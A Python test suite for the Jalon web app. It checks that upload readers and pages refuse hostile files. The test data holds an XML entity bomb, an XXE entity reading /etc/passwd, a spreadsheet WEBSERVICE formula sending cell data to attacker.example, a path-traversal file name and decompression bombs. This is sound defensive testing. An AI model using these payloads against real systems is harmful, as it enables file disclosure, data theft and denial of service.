"""Hostile files on every reader a browser reaches (the KPI measurements file, the orders file of the
framing's personas, a KPI source, the roadmap file, the backlog CSV) and on every upload page: entity bombs
and external entities in an XLSX, a sheet 16,384 columns wide or 1,048,576 rows long, an old .xls or a
text, an image or nothing named .xlsx, Excel's encodings, NUL characters, impossible dates, cells of
thousands of characters, file names with folders, markup and right-to-left overrides, files over each
page's limit. Each is read, or refused in the reader's words, and a refused file changes nothing. The
hostile bytes are made here, in memory or in ``tmp_path``; figures are in bench/hostile_uploads.py."""

from __future__ import annotations

import io
import json
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import translation
from openpyxl.utils import get_column_letter

from jalon.documents.csv_import import CsvProblems
from jalon.documents.csv_write import import_activities
from jalon.documents.roadmap_file import FileProblems, parse
from jalon.documents.services import import_roadmap
from jalon.errors import ValidationFailed
from jalon.framing.models import Framing, Persona, Prototype
from jalon.framing.services import read_orders_upload
from jalon.planning.models import Activity
from jalon.strategy.kpis.sources import SourceError, run_query
from jalon.strategy.kpis.table import TableProblems, read_file
from jalon.strategy.models import KPISource, Measurement, Roadmap
from jalon.workspaces.models import Workspace
from tests.documents.roadmap_files import as_yaml, base_document
from tests.documents.workbooks import SHEET, SHEET_OPEN, with_part, workbook
from tests.factories import Team, roadmap_with_activities

ROADMAP = "/w/cloud-kicks/r/cloud-kicks/"
NOT_XLSX = {
    "fr": "Le fichier n’est pas un classeur XLSX lisible.",
    "en": "The file is not a readable XLSX workbook.",
}
OLD_EXCEL = "This is an old Excel workbook (.xls), which Jalon does not read"
NUL = {
    "fr": "Ce texte contient un caractère NUL (code 0), que Jalon ne peut pas garder\u00a0: supprimez-le.",
    "en": "This text holds a NUL character (code 0), which Jalon cannot keep: remove it.",
}


def sheet(rows_xml: str, doctype: str = "") -> bytes:
    """A workbook whose first sheet is ``rows_xml`` (``<row>`` elements), after an optional DOCTYPE."""
    xml = f'<?xml version="1.0"?>{doctype}{SHEET_OPEN}<sheetData>{rows_xml}</sheetData></worksheet>'
    return with_part(workbook([["x"]]), SHEET, xml.encode())


def text_row(number: int, first: str, second: str = "3") -> str:
    """A row of a text and a number, or of two texts (a header)."""
    cell = f"<v>{second}</v>" if second.isdigit() else f"<is><t>{second}</t></is>"
    kind = "" if second.isdigit() else ' t="inlineStr"'
    return (
        f'<row r="{number}"><c r="A{number}" t="inlineStr"><is><t>{first}</t></is></c>'
        f'<c r="B{number}"{kind}>{cell}</c></row>'
    )


LAUGHS = (
    '<!DOCTYPE bomb [<!ENTITY l0 "lol">'
    + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    + "]>"
)


def kpi_message(name: str, data: bytes) -> str:
    with pytest.raises(TableProblems) as refused:
        read_file(name, data)
    return refused.value.problems[0].message


def orders_message(name: str, data: bytes) -> str:
    with pytest.raises(ValidationFailed) as refused:
        read_orders_upload(data, filename=name)
    return " ".join(str(message) for message in refused.value.errors["file"])


def source_message(tmp_path: Path, name: str, data: bytes) -> str:
    path = tmp_path / name
    path.write_bytes(data)
    with pytest.raises(SourceError) as refused:
        run_query(path, "select * from data")
    return str(refused.value)


READERS: dict[str, Callable[[Path, str, bytes], str]] = {
    "kpi-file": lambda _tmp, name, data: kpi_message(name, data),
    "orders": lambda _tmp, name, data: orders_message(name, data),
    "kpi-source": source_message,
}


# Workbooks --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("language", ["fr", "en"])
@pytest.mark.parametrize("reader", list(READERS))
def test_a_workbook_whose_entities_expand_a_billion_times_is_refused_in_words(
    tmp_path: Path, reader: str, language: str
) -> None:
    bomb = sheet(text_row(1, "&l9;"), LAUGHS)
    assert len(bomb) < 10_000
    with translation.override(language):
        assert READERS[reader](tmp_path, "bombe.xlsx", bomb) == NOT_XLSX[language]


@pytest.mark.parametrize("reader", list(READERS))
def test_a_workbook_declaring_any_entity_is_refused_before_it_is_expanded(
    tmp_path: Path, reader: str
) -> None:
    # expat expanded a billion laughs until its own amplification limit (0.3 s, and none before expat 2.4)
    # and read a small entity as written: defusedxml, which openpyxl uses when installed, refuses either
    data = sheet(
        text_row(1, "date", "valeur") + text_row(2, "&d;"), '<!DOCTYPE x [<!ENTITY d "05/01/2026">]>'
    )
    with translation.override("fr"):
        assert READERS[reader](tmp_path, "entite.xlsx", data) == NOT_XLSX["fr"]


@pytest.mark.parametrize("reader", list(READERS))
def test_a_workbook_naming_a_server_file_as_an_entity_never_shows_it(tmp_path: Path, reader: str) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("SECRET-LINE")
    doctype = f'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file://{secret}">]>'
    data = sheet(text_row(1, "date", "valeur") + text_row(2, "&xxe;"), doctype)
    with translation.override("en"):
        message = READERS[reader](tmp_path, "entite.xlsx", data)
    assert message == NOT_XLSX["en"]
    assert "SECRET" not in message


def test_a_sheet_16384_columns_wide_is_read_as_its_filled_cells() -> None:
    empty = "".join(f'<c r="{get_column_letter(n)}2"/>' for n in range(3, 16_385))
    row = text_row(2, "05/01/2026").replace("</row>", empty + "</row>")
    with translation.override("fr"):
        assert read_file("large.xlsx", sheet(text_row(1, "date", "valeur") + row)) == [
            (date(2026, 1, 5), 3.0)
        ]


def test_a_sheet_of_1048576_rows_is_refused_past_the_kpi_files_limit() -> None:
    # openpyxl read such a sheet through once at load to measure it (10 s) before the limit could stop it
    rows = "<row><c><v>46027</v></c><c><v>1</v></c></row>" * 1_048_576
    with translation.override("en"):
        assert kpi_message("million.xlsx", sheet(rows)) == "More than 20,000 lines."


def test_a_workbook_is_read_from_its_first_sheet_without_parsing_the_others() -> None:
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["date", "valeur"])
    book.active.append(["05/01/2026", 3])
    book.create_sheet("autre")
    out = io.BytesIO()
    book.save(out)
    broken = with_part(out.getvalue(), "xl/worksheets/sheet2.xml", b"<worksheet><sheetData><row>")
    with translation.override("fr"):
        assert read_file("deux.xlsx", broken) == [(date(2026, 1, 5), 3.0)]


def test_formulas_in_a_workbook_are_never_run_only_their_saved_value_is_read() -> None:
    saved = '<c r="B2"><f>1+1</f><v>2</v></c>'  # Excel saved the result: that is read
    unsaved = '<c r="B3"><f>WEBSERVICE("http://attacker.example/?"&amp;A1)</f></c>'  # no result saved
    rows = text_row(1, "date", "valeur")
    rows += '<row r="2"><c r="A2" t="inlineStr"><is><t>05/01/2026</t></is></c>' + saved + "</row>"
    rows += '<row r="3"><c r="A3" t="inlineStr"><is><t>06/01/2026</t></is></c>' + unsaved + "</row>"
    with translation.override("en"), pytest.raises(TableProblems) as refused:
        read_file("formules.xlsx", sheet(rows))
    assert [(p.line, p.message) for p in refused.value.problems] == [
        (3, "Expected two columns: a date and a value.")
    ]
    with translation.override("fr"):
        assert read_file("formules.xlsx", sheet(rows.replace(unsaved, '<c r="B3"><v>4</v></c>'))) == [
            (date(2026, 1, 5), 2.0),
            (date(2026, 1, 6), 4.0),
        ]


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4000), OLD_EXCEL),
        (b"date;valeur\n05/01/2026;1\n", NOT_XLSX["en"]),
        (b"\x89PNG\r\n\x1a\n" + bytes(4000), NOT_XLSX["en"]),
        (b"", NOT_XLSX["en"]),
    ],
    ids=["old-xls", "csv", "png", "empty"],
)
@pytest.mark.parametrize("reader", list(READERS))
def test_an_old_xls_or_another_file_named_xlsx_is_refused_in_words(
    tmp_path: Path, reader: str, content: bytes, message: str
) -> None:
    with translation.override("en"):
        assert READERS[reader](tmp_path, "classeur.xlsx", content).startswith(message)


# Text files -------------------------------------------------------------------------------------------

TEXT = "date;valeur é\r\n05/01/2026;12\r06/01/2026;7\n07/01/2026;8\r\n"  # CR, LF and CRLF


@pytest.mark.parametrize(
    "data",
    [TEXT.encode("utf-16"), TEXT.encode("cp1252"), TEXT.encode("utf-8-sig")],
    ids=["utf-16", "cp1252", "utf-8-bom"],
)
def test_excels_encodings_and_mixed_line_endings_read_alike(tmp_path: Path, data: bytes) -> None:
    expected = [(date(2026, 1, 5), 12.0), (date(2026, 1, 6), 7.0), (date(2026, 1, 7), 8.0)]
    path = tmp_path / "mesures.csv"
    path.write_bytes(data)
    with translation.override("fr"):
        assert read_file("mesures.csv", data) == expected
        assert run_query(path, "select * from data") == expected


def test_a_text_file_with_a_nul_byte_is_one_problem_for_measurements_and_orders() -> None:
    with translation.override("en"):
        orders = orders_message("commandes.csv", b"client;date;montant\nc1;05/01/2026;1\x00\n")
        measurements = kpi_message("mesures.csv", b"date;valeur\n05/01/2026;1\x00\n")
    assert orders.startswith("This file is not a table (an image, a PDF or another binary file?).")
    assert measurements == "This file is not a table (an image, a PDF or another binary file?)."


@pytest.mark.parametrize("cell", ["x" * 2_000, "9" * 5_000], ids=["2000-characters", "5000-digits"])
def test_a_kpi_file_quotes_at_most_an_excerpt_of_a_long_cell(cell: str) -> None:
    with translation.override("en"):
        message = kpi_message("mesures.csv", f"date;valeur\n05/01/2026;{cell}\n{cell};1\n".encode())
    assert len(message) < 80 and "…" in message


def test_a_kpi_file_of_20000_bad_lines_lists_200_problems_and_counts_the_others() -> None:
    data = b"date;valeur\n" + b"".join(f"{n};x\n".encode() for n in range(20_000))
    with translation.override("fr"), pytest.raises(TableProblems) as refused:
        read_file("mesures.csv", data)
    assert len(refused.value.problems) == 201
    assert refused.value.problems[-1].message == "Et 19\u202f800 autres problèmes."


@pytest.mark.parametrize(
    ("written", "fr", "en"),
    [
        (
            "30/02/2026",
            "«\u00a030/02/2026\u00a0» n’existe pas dans le calendrier\u00a0: "
            "février 2026 compte 28\u00a0jours.",
            "“30/02/2026” is not a day of the calendar: February 2026 has 28 days.",
        ),
        ("0000-01-01", "«\u00a00000-01-01\u00a0» n’est pas une date.", "“0000-01-01” is not a date."),
        (
            "9999-12-31",
            "La date est hors des années 1900 à 2200.",
            "The date is outside the years 1900 to 2200.",
        ),
        ("99999-01-01", "«\u00a099999-01-01\u00a0» n’est pas une date.", "“99999-01-01” is not a date."),
    ],
)
def test_an_impossible_date_in_a_kpi_file_is_refused_at_its_line(written: str, fr: str, en: str) -> None:
    data = f"date;valeur\n05/01/2026;1\n{written};2\n".encode()
    for language, expected in (("fr", fr), ("en", en)):
        with translation.override(language), pytest.raises(TableProblems) as refused:
            read_file("mesures.csv", data)
        assert [(p.line, p.message) for p in refused.value.problems] == [(3, expected)]


@pytest.mark.parametrize("written", ["30/02/2026", "0000-01-01", "9999-12-31", "99999-01-01"])
def test_an_impossible_date_in_an_orders_file_names_its_line_and_column(written: str) -> None:
    data = f"client;date;montant\nc1;05/01/2026;10\nc2;{written};12\n".encode()
    with translation.override("en"):
        message = orders_message("commandes.csv", data)
    assert message.startswith("1 bad line: nothing was changed.") and "line 3, column date" in message


# Roadmap files and backlog CSV -------------------------------------------------------------------------


def problems(text: str, fmt: str) -> list[tuple[str, str]]:
    with pytest.raises(FileProblems) as refused:
        parse(text, fmt)  # type: ignore[arg-type]
    return refused.value.problems


@pytest.mark.parametrize(
    ("fmt", "text", "where"),
    [
        ("json", json.dumps(base_document()).replace("Plan 2027", "Plan\\u00002027"), "roadmap.title"),
        (
            "yaml",
            as_yaml(base_document()).replace("title: Plan 2027", 'title: "Plan\\0 2027"'),
            "roadmap.title",
        ),
        ("json", json.dumps(base_document()).replace('"vision"', '"vi\\u0000sion"'), "roadmap.vi\ufffdsion"),
    ],
    ids=["json-text", "yaml-text", "json-key"],
)
def test_a_nul_character_in_a_roadmap_file_is_refused_at_its_path(fmt: str, text: str, where: str) -> None:
    for language in ("fr", "en"):
        with translation.override(language):
            assert problems(text, fmt) == [(where, NUL[language])]


def test_a_2000_character_title_in_a_roadmap_file_says_its_limit() -> None:
    text = json.dumps(base_document()).replace('"title": "Plan 2027"', '"title": "' + "x" * 2_000 + '"')
    with translation.override("fr"):
        assert problems(text, "json") == [("roadmap.title", "Écrivez au plus 200\u00a0caractères.")]


@pytest.mark.parametrize("value", ["NaN", "Infinity", "-Infinity", "1e400", "1" + "0" * 400])
def test_a_json_measurement_that_is_not_a_finite_number_is_refused_at_its_path(value: str) -> None:
    text = json.dumps(base_document()).replace('"value": 10}', f'"value": {value}}}')
    with translation.override("en"):
        [(where, message)] = problems(text, "json")
    assert (where, message) in {
        (
            "kpis[0].measurements[0].value",
            "Enter a finite number between -1,000,000,000,000,000 and 1,000,000,000,000,000.",
        ),
        ("/", "A number is longer than 30 characters."),
    }


@pytest.mark.parametrize(
    ("day", "said"),
    [
        ("0000-01-01", "Not a valid date (expected YYYY-MM-DD)."),
        ("99999-01-01", "Not a valid date (expected YYYY-MM-DD)."),
        ("2026-02-30", "“2026-02-30” is not a day of the calendar: February 2026 has 28 days."),
    ],
)
def test_a_roadmap_file_date_in_year_0_or_99999_or_on_30_february_is_refused(day: str, said: str) -> None:
    text = json.dumps(base_document()).replace('"date": "2026-02-28"', f'"date": "{day}"')
    with translation.override("en"):
        assert problems(text, "json") == [("kpis[0].measurements[0].date", said)]


def test_a_roadmap_file_with_a_nul_character_imports_nothing(db: Any) -> None:
    workspace = Workspace.objects.create(slug="agence", name="Agence")
    text = json.dumps(base_document()).replace("Plan 2027", "Plan\\u00002027")
    with pytest.raises(FileProblems):
        import_roadmap(actor=None, workspace=workspace, text=text, fmt="json")
    assert not Roadmap.objects.filter(workspace=workspace).exists()


def test_a_nul_character_in_a_backlog_csv_is_refused_at_its_line_and_imports_nothing(team: Team) -> None:
    roadmap = roadmap_with_activities(team.workspace, team.owner, 1)
    with translation.override("fr"), pytest.raises(CsvProblems) as refused:
        import_activities(actor=None, roadmap=roadmap, text="key,title\nnouvelle,Ti\x00tre\nautre,Autre\n")
    assert refused.value.problems == [("ligne 2", NUL["fr"])]
    assert roadmap.activities.count() == 1


# Upload pages ------------------------------------------------------------------------------------------

PAGES: dict[str, tuple[str, dict[str, str], int]] = {
    # page: (address, the form's other fields, the largest file it takes in MB)
    "roadmap-file": ("/w/cloud-kicks/import/", {}, 5),
    "backlog-csv": (ROADMAP + "backlog/import/", {"create_people": "on"}, 5),
    "kpi-file": (ROADMAP + "kpis/taux-conversion/import/", {}, 10),
    "kpi-source": (ROADMAP + "kpis/taux-conversion/source/", {"query": "select * from data"}, 50),
    "orders": (ROADMAP + "framing/personas/", {"op": "upload"}, 50),
    "prototype": (ROADMAP + "framing/prototypes/", {"op": "prototype", "title": "P", "status": "draft"}, 10),
}
HOSTILE_FILES = {
    "bombe.xlsx": sheet(text_row(1, "&l9;"), LAUGHS),
    "entite.xlsx": sheet(text_row(1, "&xxe;"), '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'),
    "ancien.xlsx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4000),
    "image.xlsx": b"\x89PNG\r\n\x1a\n" + bytes(4000),
    "vide.csv": b"",
    "nul.csv": b"key,title\nx,Ti\x00tre\n",
    "nul.json": json.dumps(base_document()).replace("Plan 2027", "Plan\\u00002027").encode(),
    "dates.csv": b"date;valeur\n30/02/2026;1e400\n",
}


def saved() -> dict[str, Any]:
    """What an upload could have written."""
    return {
        "roadmaps": Roadmap.objects.count(),
        "activities": Activity.objects.count(),
        "measurements": Measurement.objects.count(),
        "sources": KPISource.objects.count(),
        "personas": Persona.objects.count(),
        "orders": list(Framing.objects.exclude(orders_file="").values_list("orders_file", flat=True)),
        "prototypes": Prototype.objects.count(),
    }


@pytest.fixture
def editor(client: Client, members: dict[str, Any], settings: Any, tmp_path: Path) -> Client:
    settings.MEDIA_ROOT = tmp_path / "uploads"
    client.force_login(members["editor"])
    return client


@pytest.mark.parametrize("page", list(PAGES))
def test_every_upload_page_refuses_hostile_files_in_a_small_page_and_keeps_nothing(
    editor: Client, page: str, tmp_path: Path
) -> None:
    url, fields, _limit = PAGES[page]
    before = saved()
    for name, data in HOSTILE_FILES.items():
        response = editor.post(url, {**fields, "file": SimpleUploadedFile(name, data)})
        body = response.content.decode()
        assert response.status_code == 422, name
        assert len(body) < 100_000 and "Traceback" not in body and str(tmp_path) not in body, name
        assert "root:" not in body, name
    assert saved() == before


@pytest.mark.parametrize("page", list(PAGES))
def test_every_upload_page_refuses_a_file_over_its_limit_in_words_and_keeps_nothing(
    editor: Client, page: str
) -> None:
    url, fields, limit = PAGES[page]
    before = saved()
    data = b"\x89PNG\r\n\x1a\n" + b"5" * (limit * 1024 * 1024 - 7)  # one byte over
    response = editor.post(url, {**fields, "file": SimpleUploadedFile("grand.xlsx", data)})
    assert response.status_code == 422
    assert f"Le fichier dépasse {limit} Mo." in response.content.decode().replace("\u00a0", " ")
    assert saved() == before


@pytest.mark.parametrize(
    ("language", "message"),
    [
        ("fr", "Ce que vous avez envoyé dépasse 2,5\u00a0Mo, le plus qu’un formulaire accepte"),
        ("en", "What you sent is larger than 2.5 MB, the most a form takes"),
    ],
)
def test_a_paste_larger_than_a_form_takes_is_refused_in_words(
    client: Client, members: dict[str, Any], language: str, message: str
) -> None:
    client.force_login(members["editor"])
    client.cookies["jalon_language"] = language
    before = Measurement.objects.count()
    pasted = "05/01/2026\t1\n" * 250_000
    response = client.post(
        ROADMAP + "kpis/taux-conversion/paste/", {"table": pasted}, HTTP_ACCEPT_LANGUAGE=language
    )
    assert response.status_code == 400
    assert message in response.content.decode()
    assert Measurement.objects.count() == before


HOSTILE_NAME = "..\\..\\etc\\\u202e<b>" + "x" * 300 + ".csv"  # a folder, a right-to-left override, markup


def test_hostile_file_names_are_kept_as_short_plain_labels(editor: Client) -> None:
    from jalon.demo.orders import synthetic_orders
    from jalon.documents.orders_file import orders_csv

    measurements = b"date;valeur\n05/01/2026;1\n"
    orders = orders_csv(synthetic_orders(customers=200, seed=3)).encode()
    sent = {
        "kpi-file": measurements,
        "kpi-source": b"date,valeur\n2026-01-05,1\n",
        "orders": orders,
    }
    for page, data in sent.items():
        url, fields, _limit = PAGES[page]
        response = editor.post(url, {**fields, "file": SimpleUploadedFile(HOSTILE_NAME, data)})
        assert response.status_code == 302, page
    labels = [
        Measurement.objects.get(kpi__key="taux-conversion", date=date(2026, 1, 5)).source,
        KPISource.objects.get().file_name,
        Framing.objects.get().orders_file,
    ]
    for label in labels:
        assert len(label) == 200 and label.startswith("<b>xxx") and label.endswith("xxx.csv")


def test_a_prototype_whose_name_keeps_nothing_downloads_under_a_name_of_ours(editor: Client) -> None:
    from tests.framing.prototypes import png

    url, fields, _limit = PAGES["prototype"]
    for name in ("★", HOSTILE_NAME.replace(".csv", ".png")):
        response = editor.post(url, {**fields, "file": SimpleUploadedFile(name, png())})
        assert response.status_code == 302, name
    first, second = Prototype.objects.order_by("pk").values_list("file_name", flat=True)
    assert first == "prototype.png"
    assert second.startswith("bxxx") and second.endswith("xxx.png") and len(second) <= 200


def test_a_workbook_saved_under_a_csv_name_is_read_as_a_workbook(tmp_path: Path) -> None:
    data = workbook([["date", "valeur"], [date(2026, 1, 5), 3]])
    path = tmp_path / "mesures.csv"
    path.write_bytes(data)
    with translation.override("fr"):
        assert read_file("mesures.csv", data) == [(date(2026, 1, 5), 3.0)]
        assert run_query(path, "select * from data") == [(date(2026, 1, 5), 3.0)]


def test_an_image_named_csv_is_one_problem_not_one_per_line() -> None:
    with translation.override("en"):
        message = kpi_message("mesures.csv", b"\x89PNG\r\n\x1a\n" + bytes(4000))
    assert message == "This file is not a table (an image, a PDF or another binary file?)."


def test_an_image_sent_to_the_backlog_import_says_what_it_is(editor: Client) -> None:
    content = b"\x89PNG\r\n\x1a\n" + bytes(4000)
    message = "Ce fichier n’est pas un tableau (une image, un PDF"
    url, fields, _limit = PAGES["backlog-csv"]
    response = editor.post(url, {**fields, "file": SimpleUploadedFile("backlog.csv", content)})
    assert response.status_code == 422
    assert message in response.content.decode()


@pytest.mark.parametrize("reader", ["orders", "kpi-source"])
def test_an_orders_or_source_sheet_past_its_row_limit_is_refused_with_the_advice_to_save_it_as_csv(
    tmp_path: Path, reader: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    # a sheet of 1,048,576 orders took 85 s to read in the page's request: past 200,000 rows, CSV is asked
    monkeypatch.setattr("jalon.documents.orders_file.LONG_SHEET_ROWS", 3)
    monkeypatch.setattr("jalon.strategy.kpis.sources.MAX_SHEET_ROWS", 3)
    rows: list[list[object]] = [["client", "date", "montant"]]
    rows += [[f"c{n}", date(2026, 1, 5), 10] for n in range(4)]
    with translation.override("fr"):
        message = READERS[reader](tmp_path, "commandes.xlsx", workbook(rows))
    assert message == (
        "La première feuille a plus de 3 lignes\u00a0: enregistrez-la au format CSV, que Jalon lit bien "
        "plus vite, et importez ce fichier."
    )


def test_a_parquet_source_expanding_to_gigabytes_is_stopped_in_words(tmp_path: Path, settings: Any) -> None:
    import duckdb

    bomb = tmp_path / "bombe.parquet"  # 5,000 rows of the same 100 kB text: a few kB, 500 MB once read
    statement = (
        "COPY (SELECT repeat('a', 100000) AS d, i AS v FROM range(5000) t(i)) TO '{}' (FORMAT parquet)"
    )
    duckdb.connect().execute(statement.format(bomb))
    assert bomb.stat().st_size < 100_000
    settings.JALON_SOURCE_SECONDS = 0.05
    with translation.override("fr"), pytest.raises(SourceError) as refused:
        run_query(bomb, "select * from data")
    assert str(refused.value).startswith(
        "La lecture du fichier a duré plus de 0,05\u00a0secondes et a été arrêtée"
    )


def test_a_query_joining_the_table_to_itself_without_end_is_stopped_in_words(
    tmp_path: Path, settings: Any
) -> None:
    path = tmp_path / "mesures.csv"
    path.write_text("date;valeur\n" + "".join(f"{1 + n % 28:02d}/01/2026;{n}\n" for n in range(100)))
    settings.JALON_SOURCE_SECONDS = 0.2
    query = "select current_date, count(*) from data a, data b, data c, data d, data e"
    with translation.override("en"), pytest.raises(SourceError) as refused:
        run_query(path, query)
    assert str(refused.value) == (
        "The query ran more than 0.2 seconds and was stopped: filter the table first (WHERE), or join it to "
        "itself less."
    )


def test_an_orders_file_of_50000_columns_offers_its_first_256_in_a_short_message() -> None:
    from django.utils.translation import gettext

    from jalon.documents.orders_file import MappingNeeded, describe_error, read_orders

    header = ";".join(f"colonne{n}" + "x" * 60 for n in range(50_000))  # a 17 MB page of choices, before
    data = f"{header}\n05/01/2026;{';'.join(['1'] * 49_999)}\n".encode()
    with translation.override("en"), pytest.raises(MappingNeeded) as asked:
        read_orders(data, filename="commandes.csv")
    assert len(asked.value.columns) == 256
    with translation.override("en"):
        assert len(describe_error(asked.value, gettext)) < 2_200  # 30 names of at most 60 characters


def test_a_source_of_1000_columns_names_at_most_30_of_them_in_its_message(tmp_path: Path) -> None:
    path = tmp_path / "large.csv"
    header = ";".join(f"colonne{n}" for n in range(1_000))
    path.write_text(f"{header}\n05/01/2026;{';'.join(['1'] * 999)}\n")
    with translation.override("en"), pytest.raises(SourceError) as refused:
        run_query(path, "select nope, 1 from data")
    message = str(refused.value)
    assert message.startswith("The table has no column “nope”. Its columns: colonne0, colonne1, ")
    assert message.endswith("colonne29, ….") and len(message) < 500


# KPI sources: DuckDB reads the clean CSV Jalon writes, and guesses nothing about it ---------------------


@pytest.mark.parametrize(
    "data",
    [
        b"date;valeur\n05/01/2026;1\n#N/A;2\n07/01/2026;3\n",  # Excel's error shown where a date failed
        workbook([["date", "valeur"], [date(2026, 1, 5), 1], ["#VALUE!", 2], [date(2026, 1, 7), 3]]),
    ],
    ids=["csv", "xlsx"],
)
def test_a_source_row_starting_with_a_hash_is_refused_at_its_row_not_dropped_as_a_comment(
    tmp_path: Path, data: bytes
) -> None:
    # DuckDB's sniffer took "#" for a comment mark and left the row out: two measurements were kept of three
    path = tmp_path / ("mesures.xlsx" if data[:2] == b"PK" else "mesures.csv")
    path.write_bytes(data)
    with translation.override("en"), pytest.raises(SourceError) as refused:
        run_query(path, "select * from data")
    assert str(refused.value) == "Row 2: the first column is not a date between 1900 and 2200."


def dated_cell_workbook(serial: float) -> bytes:
    """Measurements whose second date cell holds Excel's day number ``serial`` (a date past 9999-12-31,
    before 1900 or not a number at all, as a hostile file can write it)."""
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["date", "valeur"])
    book.active.append([date(2026, 1, 5), 1])
    book.active.append([serial, 2])
    book.active["A3"].number_format = "yyyy-mm-dd"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_a_far_future_date_cell_in_a_source_workbook_is_refused_not_dropped(tmp_path: Path) -> None:
    # serial 2958466 is past 9999-12-31: openpyxl reads the cell as "#VALUE!", which DuckDB took for a comment
    path = tmp_path / "mesures.xlsx"
    path.write_bytes(dated_cell_workbook(2_958_466))
    with translation.override("fr"), pytest.raises(SourceError) as refused:
        run_query(path, "select * from data")
    assert str(refused.value) == ("Ligne 2\u00a0: la première colonne n’est pas une date entre 1900 et 2200.")


def test_a_source_whose_late_rows_differ_from_the_first_ones_is_read_whole(tmp_path: Path) -> None:
    # DuckDB typed the columns and found the quoting on the first 20,480 rows: a quoted comma or a text in a
    # number column past them made "The file could not be read"
    lines = "".join(f"{1 + n % 28:02d}/01/2026;{n};x\n" for n in range(25_000))
    path = tmp_path / "mesures.csv"
    path.write_text(f"date;valeur;note\n{lines}05/02/2026;7,5;a, b\n06/02/2026;n/a;y\n")
    query = "select date, valeur from data where note <> 'x'"
    with translation.override("en"), pytest.raises(SourceError) as refused:
        run_query(path, query)
    assert str(refused.value) == "Row 2: the second column, “n/a”, is not a number."
    path.write_text(f"date;valeur;note\n{lines}05/02/2026;7,5;a, b\n")
    with translation.override("en"):
        assert run_query(path, query) == [(date(2026, 2, 5), 7.5)]


def test_a_source_of_french_numbers_is_read_as_the_measurements_import_reads_them(tmp_path: Path) -> None:
    # DuckDB reads "1 000 000,5" as a text: the source answered "Row 1: the second column is not a number"
    path = tmp_path / "mesures.csv"
    path.write_bytes(
        "date;valeur\n05/01/2026;1\u202f000\u202f000,5\n06/01/2026;12,25\n".encode(
            "cp1252", "replace"
        ).replace(b"?", b" ")
    )
    with translation.override("en"):
        assert run_query(path, "select * from data") == [
            (date(2026, 1, 5), 1_000_000.5),
            (date(2026, 1, 6), 12.25),
        ]


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (b"GIF89a" + bytes(4000), "This file is not a table (an image, a PDF or another binary file?)."),
        (  # text, in an encoding not read: said so, not "not a table"
            "date;valeur\n05/01/2026;1\n".encode("utf-16-le"),
            "The file’s text encoding could not be read (UTF-16 without its byte-order mark?): save it as "
            "UTF-8, in Excel as “CSV UTF-8”, and use that file.",
        ),
    ],
    ids=["gif", "utf-16-without-its-mark"],
)
def test_an_image_or_a_binary_file_named_csv_is_not_a_table_for_a_source_as_for_an_import(
    tmp_path: Path, data: bytes, said: str
) -> None:
    # the source answered "The query must return two columns" or "Row 1: the first column is not a date"
    with translation.override("en"):
        assert source_message(tmp_path, "mesures.csv", data) == kpi_message("mesures.csv", data)
        assert kpi_message("mesures.csv", data) == said


# Prototype images ----------------------------------------------------------------------------------------


def cut_png() -> bytes:
    """A 300 × 300 PNG whose last tenth is missing (an upload cut short)."""
    from PIL import Image

    out = io.BytesIO()
    Image.effect_noise((300, 300), 64).save(out, format="PNG")
    data = out.getvalue()
    return data[: len(data) * 9 // 10]


def test_a_truncated_png_is_refused_even_once_a_pdf_report_was_drawn_in_the_process() -> None:
    # importing WeasyPrint set Pillow's LOAD_TRUNCATED_IMAGES for the whole process: after the first PDF
    # report, a prototype cut short was kept as an image with a grey end
    from jalon.framing.prototypes import thumbnail
    from jalon.reports import pdf  # noqa: F401  (WeasyPrint, as a PDF report imports it)

    for language, message in (("fr", "L’image est illisible."), ("en", "The image cannot be read.")):
        with translation.override(language), pytest.raises(ValidationFailed) as refused:
            thumbnail(cut_png(), "image/png")
        assert refused.value.errors["file"] == [message]


def test_a_source_100000_columns_wide_is_read_as_its_first_256_as_a_workbook_is(tmp_path: Path) -> None:
    # a 600 kB file whose 100,000 columns filled DuckDB's 512 MB: "The file could not be read"
    path = tmp_path / "large.csv"
    others = range(2, 100_000)
    path.write_text(
        "date;valeur;" + ";".join(f"c{n}" for n in others) + "\n05/01/2026;1;" + ";".join("1" for _ in others)
    )
    with translation.override("en"):
        assert run_query(path, "select date, valeur from data") == [(date(2026, 1, 5), 1.0)]
        with pytest.raises(SourceError) as refused:
            run_query(path, "select date, c256 from data")
    assert str(refused.value).startswith("The table has no column “c256”. Its columns: date, valeur, c2, ")


@pytest.mark.parametrize(
    ("language", "words"), [("fr", "un nombre trop grand du fichier"), ("en", "a number too large")]
)
def test_a_source_value_too_large_to_be_finite_is_not_blamed_on_a_division_alone(
    tmp_path: Path, language: str, words: str
) -> None:
    # 1e309 in the file is read by DuckDB as infinity: the message spoke only of a division by zero
    with translation.override(language):
        message = source_message(tmp_path, "mesures.csv", b"date,valeur\n2026-01-05,1e309\n")
    assert words in message
